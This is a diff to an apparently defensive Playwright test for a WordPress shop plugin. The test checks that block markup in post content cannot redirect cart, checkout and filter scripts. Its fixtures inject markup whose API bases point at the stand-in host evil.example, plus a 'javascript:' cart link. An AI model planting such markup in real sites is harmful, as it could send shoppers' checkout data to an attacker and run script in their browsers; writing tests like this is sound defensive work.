@@ -12,7 +12,16 @@ import { needsWooCommerce, productId } from './shop-helpers';
 const EVIL = 'https://evil.example';
 const GRAVATAR = 'secure.gravatar.com';
 
-const ATTACK = `
+/**
+ * Real blocks come first: each block's view script loads only where the block renders (docs/builder.md),
+ * so the handlers the imitations aim at are on the page, as they would be on a shop's page.
+ */
+const REAL_BLOCKS = `
+<!-- wp:vitrine/cart {"layout":"mini"} /-->
+<!-- wp:vitrine/checkout /-->`;
+
+const ATTACK = `${ REAL_BLOCKS }
+<!-- wp:vitrine/add-to-cart {"productId":5} /-->
 <!-- wp:vitrine/loop-filter {"targetWidgetId":"evil1","taxonomy":"category"} /-->
 <!-- wp:html -->
 <div class="vitrine-loop-grid" data-widget-id="evil1" data-post-id="1" data-rest-base="${ EVIL }/wp-json/">
@@ -95,7 +104,7 @@ test.describe( 'post content cannot steer the frontend', () => {
 			await expect( term ).toBeVisible();
 			await term.click();
 			await page.waitForURL( /e-filter-evil1-category=/ ); // A plain link: the page loaded again.
-			await page.getByRole( 'button', { name: 'Add' } ).click();
+			await page.getByRole( 'button', { name: 'Add', exact: true } ).click();
 			await page.waitForLoadState( 'networkidle' );
 			expect( foreign ).toEqual( [] );
 			expect(
@@ -124,14 +133,17 @@ test.describe( 'post content cannot steer the frontend', () => {
 		const admin = await adminNonce( page.request );
 		const origin = new URL( baseURL! ).origin;
 		const cupId = await productId( page.request, 'vitrine-cup' );
-		const trusted = `
+		const trusted = `${ REAL_BLOCKS }
+<!-- wp:vitrine/add-to-cart {"productId":${ cupId }} /-->
 <!-- wp:vitrine/loop-filter {"targetWidgetId":"evil2","taxonomy":"category"} /-->
 <!-- wp:html -->
+<div id="trusted-markup">
 <div class="vitrine-loop-grid" data-widget-id="evil2" data-post-id="1" data-rest-base="${ EVIL }/wp-json/"><div class="vitrine-loop-grid__content"><p>Grid</p></div></div>
 <div class="vitrine-cart-widget" data-vitrine="cart" data-settings='{"storeApi":"${ EVIL }/wc/store/v1/"}'><p class="vitrine-cart-widget__status"></p></div>
 <div class="vitrine-checkout" data-vitrine="checkout" data-settings='{"storeApi":"${ EVIL }/wc/store/v1/"}'><form class="vitrine-checkout__form" action="#"></form><p class="vitrine-checkout__status"></p><p class="vitrine-checkout__alert"></p></div>
 <div class="vitrine-add-to-cart" data-vitrine="add-to-cart" data-settings='{"productId":${ cupId },"name":"Espresso cup","storeApi":"${ origin }/wp-json/wc/store/v1/","cartUrl":"javascript:window.__pwned=1","added":"%1$d × %2$s added.","viewCart":"View cart"}'>
 <form class="vitrine-add-to-cart__form" action="#"><button class="vitrine-add-to-cart__button" type="submit">Add the cup</button></form><p class="vitrine-add-to-cart__status" role="status"></p></div>
+</div>
 <!-- /wp:html -->`;
 		const saved = await page.request.post( '/wp-json/wp/v2/posts', {
 			headers: admin,
@@ -153,7 +165,7 @@ test.describe( 'post content cannot steer the frontend', () => {
 			await serveEvil( view );
 			await view.route( `https://${ GRAVATAR }/**`, ( route ) => route.fulfill( { status: 204 } ) );
 			await view.goto( link );
-			const cup = view.locator( '.vitrine-add-to-cart' );
+			const cup = view.locator( '#trusted-markup .vitrine-add-to-cart' );
 			await cup.getByRole( 'button', { name: 'Add the cup' } ).click();
 			// Added through this site's Store API, but the javascript: cart link is not offered.
 			await expect( cup.getByRole( 'status' ) ).toHaveText( '1 × Espresso cup added.' );
